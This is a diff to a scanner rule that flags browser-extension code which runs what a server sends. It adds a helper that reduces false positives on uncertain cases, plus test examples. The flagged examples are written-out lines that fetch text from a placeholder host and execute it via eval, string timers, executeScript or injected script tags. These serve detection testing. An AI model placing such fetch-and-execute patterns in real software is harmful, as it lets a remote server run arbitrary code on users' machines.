@@ -1,7 +1,9 @@
+import { apiPath, Op, type ScriptFacts } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { codeRunsOf, type RunKind } from './codeRuns.ts';
 import { isFromServer } from './network.ts';
+import { originsOf } from './origins.ts';
 
 /** The ways that certainly run what they are given. */
 const CERTAIN: ReadonlySet<RunKind> = new Set(['eval', 'function', 'callback', 'timer']);
@@ -20,8 +22,8 @@ export const remoteCode = defineRule({
   cap: { grade: 'F', reason: 'it runs code that a server sends' },
   check: checkScripts(function* ({ script, hit, facts }) {
     for (const run of codeRunsOf(script)) {
-      if (run.kind === 'handler') continue;
-      if (!isFromServer(script, run.code)) continue;
+      if (run.kind === 'handler' || !isFromServer(script, run.code)) continue;
+      if (run.kind === 'unsure' && !isPlainData(script, run.code)) continue;
       const certain = CERTAIN.has(run.kind);
       yield hit(run.value, {
         ...(certain || facts.kind === 'extension' ? {} : { severity: 'high' as const }),
@@ -41,9 +43,13 @@ export const remoteCode = defineRule({
       backgroundExample('const s = new WebSocket("wss://x.example"); s.onmessage = (e) => { [].constructor.constructor(e.data)(); };'),
       backgroundExample('$.get("https://x.example/r", (r) => { setTimeout("run(" + r + ")", 10); });'),
       backgroundExample('fetch("https://x.example/p").then((r) => r.text()).then((p) => { const i = new Interpreter(p); i.run(); });'),
+      backgroundExample('fetch("https://x.example/t").then((r) => r.text()).then((t) => setTimeout(t, 100));'),
+      backgroundExample('fetch("https://x.example/t").then((r) => r.json()).then((c) => chrome.tabs.executeScript(null, c.inject));', { manifest_version: 2 }),
+      contentExample('fetch("https://x.example/t").then((r) => r.text()).then((t) => { const s = document.createElement("script"); s.src = "data:text/javascript," + encodeURIComponent(t); document.head.append(s); });'),
       { files: { 'setup.js': 'const https = require("https"); https.get("https://x.example/s", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });' } },
     ],
     good: [
+      backgroundExample('function load(url, done) { fetch(url).then((r) => r.json()).then((d) => { setTimeout(done, 100); setTimeout(() => done(d), 10); }); } load("https://x.example/a", show); new Promise((resolve) => setTimeout(resolve, 5));'),
       contentExample('fetch(chrome.runtime.getURL("inject.js")).then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });'),
       backgroundExample('const x = new XMLHttpRequest(); x.open("GET", chrome.extension.getURL("page.js")); x.onload = function () { chrome.tabs.executeScript({ code: this.responseText }); }; x.send();', { manifest_version: 2 }),
       backgroundExample('fetch("https://x.example/a.json").then((r) => r.json()).then((data) => { show(data.title); });'),
@@ -53,3 +59,12 @@ export const remoteCode = defineRule({
     ],
   },
 });
+
+/** Nothing that it is made of is a function: `setTimeout(next, 100)` is no text. */
+function isPlainData(script: ScriptFacts, value: number): boolean {
+  for (const one of originsOf(script, value)) {
+    const op = script.op[one];
+    if (op === Op.func || op === Op.klass || apiPath(script, one) === 'Promise') return false;
+  }
+  return true;
+}
